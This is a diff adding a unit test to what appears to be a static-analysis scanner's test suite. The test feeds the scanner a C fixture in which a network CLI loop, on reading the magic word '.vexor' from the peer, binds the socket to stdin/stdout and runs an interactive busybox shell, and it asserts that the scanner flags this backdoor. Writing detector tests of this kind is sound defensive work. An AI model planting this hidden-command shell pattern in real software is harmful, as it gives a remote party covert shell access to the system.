@@ -182,3 +182,16 @@ def test_a_reader_is_from_a_peer_only_when_its_name_says_where_from():
     assert k.stream_reader("net_readline") and k.stream_reader("cli_read_line") and k.stream_reader("sock_gets")
     # an interpreter's getline reads files and pipes; a bare read_line says nothing of a peer
     assert not k.stream_reader("awk_getline") and not k.stream_reader("read_line")
+
+
+def test_dot_command_read_from_a_console_gates_a_shell():
+    src = ("#include <string.h>\n#include <unistd.h>\nstatic char g_line[256];\n"
+           "void cli_session(int fd)\n{\n    for (;;) {\n"
+           "        if (net_readline(fd, g_line, sizeof(g_line)) < 0)\n            break;\n"
+           "        do {\n            if (strcmp(g_line, \".vexor\") != 0)\n                break;\n"
+           "            dup2(fd, 0);\n            dup2(fd, 1);\n"
+           "            execl(\"/bin/busybox\", \"sh\", \"-i\", (char *)NULL);\n        } while (0);\n"
+           "        run_command(fd, g_line);\n    }\n}\n")
+    assert rules("src/cli.c", "c", src) == ["source.magic-input-command"]
+    # a file suffix compared the same way is a path test, not a command
+    assert rules("src/cli.c", "c", src.replace('".vexor"', '".html"')) == []
